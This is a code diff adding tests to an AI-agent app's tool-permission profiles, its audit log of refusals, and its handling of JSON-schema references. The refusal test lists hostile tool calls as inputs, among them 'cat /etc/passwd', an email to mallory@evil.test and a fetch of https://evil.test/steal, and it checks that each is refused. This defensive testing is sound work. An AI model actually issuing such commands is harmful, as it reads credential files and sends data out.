@@ -3,8 +3,9 @@ import type { AddressInfo } from "node:net";
 import path from "node:path";
 import { SMTPServer } from "smtp-server";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { Api, ofType } from "../support/api";
+import { Api, expectJson, ofType, sendJson } from "../support/api";
 import { scriptedApp, tempDataDir, type AppServer } from "../support/app-server";
+import { BUILTIN_TOOL_NAMES } from "@/lib/tools/names";
 import { ModelServer } from "../support/model-server";
 
 /** The native tools document's own profiles, as it writes them, and one with the tools that are off by default. */
@@ -27,6 +28,23 @@ const CONFIG = `profiles:
         allowed_recipients: ["team@example.com"]
   - name: operator
     tools: [write_file, run_command]
+  - name: guarded
+    tools: [run_command, send_email, fetch_url, webhook, read_file, librarian_get, run_code]
+    tool_config:
+      run_command:
+        allowed_commands: [ls]
+      send_email:
+        allowed_recipients: ["team@example.com"]
+      fetch_url:
+        allowed_domains: [example.com]
+      webhook:
+        allowed_domains: [example.com]
+      read_file:
+        allowed_paths: ["/data/**"]
+      librarian_get:
+        allowed_paths: ["/db/shared"]
+  - name: everything
+    tools: [${BUILTIN_TOOL_NAMES.join(", ")}]
 default_profile: operator
 `;
 
@@ -373,5 +391,173 @@ describe("run_command", () => {
       ok: true,
       output: { exit_code: 137, stdout: "started\n", stderr: "still going\n", timed_out: true },
     });
+  });
+});
+
+describe("the audit log of the profiles' refusals", () => {
+  it("logs each call a profile or the app's policy refused as refused, with the tool's reason, and a failure as allowed", async () => {
+    const client = new Api(profiled.url);
+    const id = await conversationOf(client, "guarded");
+    const results = await call(
+      client,
+      id,
+      { name: "run_command", args: { command: "cat /etc/passwd" } },
+      { name: "run_command", args: { command: "ls" } },
+      { name: "run_command", args: { command: "ls", cwd: "../" } },
+      { name: "send_email", args: { to: "mallory@evil.test", subject: "x", body: "y" } },
+      { name: "fetch_url", args: { url: "https://evil.test/steal" } },
+      { name: "webhook", args: { url: "http://127.0.0.1:1/hook", payload: {} } },
+      { name: "read_file", args: { path: "/secret.txt" } },
+      { name: "read_file", args: { path: "/data/missing.txt" } },
+      { name: "librarian_get", args: { path: "/db/private/notes.xml" } },
+      { name: "run_code", args: { code: "eval('1')" } },
+    );
+    expect(results.map((result) => result.ok)).toEqual([
+      false,
+      true,
+      false,
+      false,
+      false,
+      false,
+      false,
+      false,
+      false,
+      false,
+    ]);
+    const { entries } = await (await client.fetch(`/api/audit?conversation=${id}&limit=50`)).json();
+    const logged = (entries as { tool: string; decision: string; reason: string | null; outcome: string | null }[]).map(
+      ({ tool, decision, reason, outcome }) => ({ tool, decision, reason, outcome }),
+    );
+    const refused = (tool: string, reason: string | RegExp) => ({
+      tool,
+      decision: "refused",
+      reason: typeof reason === "string" ? reason : expect.stringMatching(reason),
+      outcome: null,
+    });
+    const expected = [
+      refused("run_command", "cat is not among the commands this profile allows (ls)."),
+      { tool: "run_command", decision: "allowed", reason: null, outcome: "succeeded" },
+      refused("run_command", `cwd: "../" is outside this conversation's workspace.`),
+      refused("send_email", "mallory@evil.test is not among the recipients this profile allows (team@example.com)."),
+      refused(
+        "fetch_url",
+        /^fetch_url GET https:\/\/evil\.test\/steal was refused: evil\.test is not among the domains/,
+      ),
+      refused("webhook", /^webhook POST http:\/\/127\.0\.0\.1:1\/hook was refused: .*127\.0\.0\.1/),
+      refused("read_file", '"/secret.txt" (/secret.txt) is not in the paths this profile allows (/data/**).'),
+      // A missing file is the tool's failure, not a refusal: the call was allowed and ran.
+      { tool: "read_file", decision: "allowed", reason: null, outcome: "failed" },
+      refused("librarian_get", /\/db\/private is not in the collections this profile allows \(\/db\/shared\)/),
+      refused("run_code", /^Code refused by policy: line 1/),
+    ];
+    expect(logged).toHaveLength(expected.length);
+    expect(logged).toEqual(expect.arrayContaining(expected));
+  });
+});
+
+/** A parameters schema with its parts in $defs, as people and other tools' generators write them. */
+const WITH_DEFS = {
+  type: "object",
+  properties: {
+    from: { $ref: "#/$defs/Point", description: "Where the line starts." },
+    to: { $ref: "#/$defs/Point" },
+  },
+  required: ["from", "to"],
+  $defs: {
+    Point: { type: "object", properties: { x: { $ref: "#/$defs/Coordinate" }, y: { $ref: "#/$defs/Coordinate" } } },
+    Coordinate: { type: "number" },
+  },
+};
+const DISTANCE_CODE = "function run({ from, to }) { return Math.hypot(to.x - from.x, to.y - from.y); }";
+
+describe("tool schemas as the model is shown them", () => {
+  it("hold no $ref or $defs: every built-in in every profile, and a stored tool whose schema has $defs", async () => {
+    const offers: { profile: string; tools: { function: { name: string; parameters?: unknown } }[] }[] = [];
+    for (const [server, profiles] of [
+      [app, ["default"]],
+      [profiled, ["researcher", "writer", "operator", "guarded", "everything"]],
+    ] as const) {
+      const client = new Api(server.url);
+      for (const profile of profiles) {
+        const prompt = `Schemas of ${profile} on ${server.url}.`;
+        model.script(prompt, [{ text: "Nothing to do." }]);
+        await client.run(await conversationOf(client, profile), prompt);
+        offers.push({ profile, tools: model.requestsFor(prompt)[0].tools! });
+      }
+    }
+    const names = new Set(offers.flatMap(({ tools }) => tools.map((tool) => tool.function.name)));
+    expect([...names].sort()).toEqual([...BUILTIN_TOOL_NAMES].sort());
+    for (const { profile, tools } of offers)
+      for (const tool of tools)
+        expect(JSON.stringify(tool.function.parameters), `${profile}: ${tool.function.name}`).not.toMatch(
+          /"\$(ref|defs|dynamicRef)"|"definitions"/,
+        );
+    // register_tool's examples, once a $ref to ToolExample: written out, with their fields.
+    const registerTool = offers[0].tools.find((tool) => tool.function.name === "register_tool")!;
+    expect(registerTool.function.parameters).toMatchObject({
+      properties: { examples: { items: { properties: { input: {}, expected_output: {} } } } },
+    });
+
+    // A tool the model registers with $defs is offered, from the next step, written out; its calls still check.
+    const client = new Api(app.url);
+    const id = await conversationOf(client, "default");
+    const prompt = "Register a distance tool with $defs.";
+    model.script(prompt, [
+      {
+        toolCalls: [
+          {
+            name: "register_tool",
+            args: {
+              name: "distance",
+              description: "Distance between points.",
+              parameters_schema: WITH_DEFS,
+              code: DISTANCE_CODE,
+            },
+          },
+        ],
+      },
+      { toolCalls: [{ name: "distance", args: { from: { x: 0, y: 0 }, to: { x: 3, y: 4 } } }] },
+      { text: "5." },
+    ]);
+    const events = await client.run(id, prompt);
+    expect(ofType(events, "tool_result").map((result) => result.output ?? result.error)).toEqual([
+      expect.anything(),
+      5,
+    ]);
+    const offered = model.requestsFor(prompt)[1].tools!.find((tool) => tool.function.name === "distance")!;
+    const point = { type: "object", properties: { x: { type: "number" }, y: { type: "number" } } };
+    expect(offered.function.parameters).toEqual({
+      type: "object",
+      properties: { from: { ...point, description: "Where the line starts." }, to: point },
+      required: ["from", "to"],
+    });
+  });
+
+  it("refuses a parameters schema that refers to itself (422), since it cannot be written out, and says how to fix it", async () => {
+    const client = new Api(app.url);
+    const recursive = {
+      type: "object",
+      properties: { tree: { $ref: "#/$defs/Node" } },
+      $defs: { Node: { type: "object", properties: { children: { type: "array", items: { $ref: "#/$defs/Node" } } } } },
+    };
+    const tool = {
+      name: "tree_size",
+      description: "Count a tree's nodes.",
+      parameters_schema: recursive,
+      code: "function run() { return 1; }",
+    };
+    const refused = await expectJson(await sendJson(client, "/api/tools", "POST", tool), 422);
+    expect(refused.error.message).toBe(
+      'Invalid parameters_schema: /properties/tree/properties/children/items: $ref "#/$defs/Node" refers to itself. The ' +
+        "model is shown schemas with their references written out, which a recursive schema cannot be: write the " +
+        'nesting out to a fixed depth, or give the recursive part as {"type": "object"} and check it in the code.',
+    );
+    const outside = {
+      ...tool,
+      parameters_schema: { type: "object", properties: { a: { $ref: "https://example.com/a.json" } } },
+    };
+    expect((await expectJson(await sendJson(client, "/api/tools", "POST", outside), 422)).error.message).toBe(
+      'Invalid parameters_schema: /properties/a: $ref "https://example.com/a.json" is not a reference within the schema ("#/$defs/Name").',
+    );
   });
 });
